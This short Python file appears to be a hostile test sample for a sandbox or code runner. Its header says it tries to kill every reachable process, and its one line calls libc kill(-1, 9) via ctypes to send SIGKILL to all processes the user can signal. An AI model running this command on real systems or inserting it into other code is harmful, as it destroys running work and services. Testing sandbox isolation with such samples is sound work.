# Tries: to kill every process that it can reach.
# Base: starter
import ctypes

ctypes.CDLL(None).kill(-1, 9)
